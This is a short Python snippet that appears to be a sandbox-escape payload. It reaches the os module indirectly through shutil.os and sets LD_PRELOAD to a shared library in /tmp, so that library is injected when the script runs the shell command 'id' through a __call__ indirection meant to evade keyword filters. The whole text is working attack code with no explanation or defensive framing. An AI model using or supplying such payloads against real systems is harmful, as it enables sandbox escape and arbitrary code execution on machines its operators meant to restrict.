import shutil


class Tools:
    system = shutil.os


Tools.system.putenv("LD_PRELOAD", "/tmp/a.so")
Tools.system.system.__call__("id")
